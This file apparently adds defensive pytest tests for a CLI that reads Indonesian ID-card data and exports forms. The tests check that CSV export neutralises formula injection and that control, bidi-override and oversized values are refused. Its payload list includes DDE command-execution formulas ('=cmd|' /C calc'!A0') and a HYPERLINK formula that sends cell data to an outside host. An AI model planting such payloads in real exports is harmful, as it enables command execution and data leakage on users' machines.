@@ -1,0 +1,83 @@
+"""What a clerk (or someone at the clerk's keyboard) can type or point Loket at: formulas in a CSV cell,
+control and text-direction characters, a value of 100,000 characters, a photo written to a full device,
+and ``read --lookup`` telling a failed lookup by its exit code."""
+
+from __future__ import annotations
+
+import csv
+import json
+from pathlib import Path
+
+import pytest
+
+from app.cli import main
+from app.csvcell import safe_cell
+from app.forms_cli import MAX_TYPED_DEFAULT
+from reader.simulator.population import POPULATION
+from tests.faults_support import one_line
+
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "=1+2", "@SUM(A1:A9)", "=cmd|' /C calc'!A0",
+            "+cmd|' /C calc'!A0", "-2+3"]
+
+
+@pytest.fixture(autouse=True)
+def in_process(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("LOKET_DEMO_TRANSPORT", "in-process")
+
+
+@pytest.mark.parametrize("target", ["csv", "khanza"])
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_typed_formulas_stay_text_in_csv_exports(target: str, formula: str, tmp_path: Path, capsys) -> None:
+    out = tmp_path / "warga.csv"
+    assert main(["export", target, "--demo", "--person", "1", "--set", f"alamat={formula}", "--out", str(out)]) == 0
+    rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines()))
+    cell = rows[0]["alamat"]
+    assert cell.startswith("'" + formula[:4]), cell  # shown as text, never run as a formula
+
+
+def test_safe_cell_keeps_plain_values() -> None:
+    assert safe_cell("-") == "-"  # Khanza's unknown blood group
+    assert safe_cell("+62 812-3456-7890") == "'+62 812-3456-7890"  # OWASP: every trigger, numbers too
+    assert safe_cell("JL. MERDEKA") == "JL. MERDEKA" and safe_cell(None) == ""
+    assert safe_cell("=A1") == "'=A1" and safe_cell("@x") == "'@x"
+
+
+@pytest.mark.parametrize("value, says", [
+    ("BUDI\nSANTOSO", "karakter kendali"),
+    ("BUDI\x00", "karakter kendali"),
+    ("\u202eOSOTNAS IDUB", "pembalik arah"),
+    ("BUDI \u2066SANTOSO\u2069", "pembalik arah"),
+    ("A" * 100_000, "terlalu panjang"),
+])
+@pytest.mark.parametrize("command", ["fill", "export"])
+def test_set_refuses_control_bidi_and_huge_values(value: str, says: str, command: str, tmp_path: Path,
+                                                  capsys) -> None:
+    out = tmp_path / ("x.pdf" if command == "fill" else "x.csv")
+    argv = (["fill", "rsud_pasien_baru"] if command == "fill" else ["export", "csv"]) + [
+        "--demo", "--person", "1", "--set", f"namakeluarga={value}", "--out", str(out)]
+    assert main(argv) == 2
+    assert says in one_line(capsys.readouterr().err)
+    assert not out.exists()
+
+
+def test_a_value_at_the_cap_is_taken(tmp_path: Path) -> None:
+    out = tmp_path / "x.csv"
+    assert main(["export", "csv", "--demo", "--person", "1", "--set", "alamat=" + "A" * MAX_TYPED_DEFAULT,
+                 "--out", str(out)]) == 0
+
+
+def test_photo_to_a_full_device_keeps_the_json_and_says_so(capsys) -> None:
+    code = main(["read", "--demo", "--person", "1", "--json", "--photo-out", "/dev/full"])
+    out, err = capsys.readouterr()
+    assert code == 1
+    assert json.loads(out)["nik"] == POPULATION[1].nik  # the read is not lost
+    assert "Foto tidak tersimpan" in err and "Traceback" not in err
+
+
+def test_read_lookup_exits_11_when_the_lookup_failed(capsys) -> None:
+    code = main(["read", "--demo", "--person", "1", "--json", "--lookup", "--registry-url", "http://127.0.0.1:9",
+                 "--agency", "LOKET_SIM"])
+    out, err = capsys.readouterr()
+    assert code == 11
+    assert json.loads(out)["nik"] == POPULATION[1].nik  # the chip's record is still printed
+    assert "data dari chip" in err
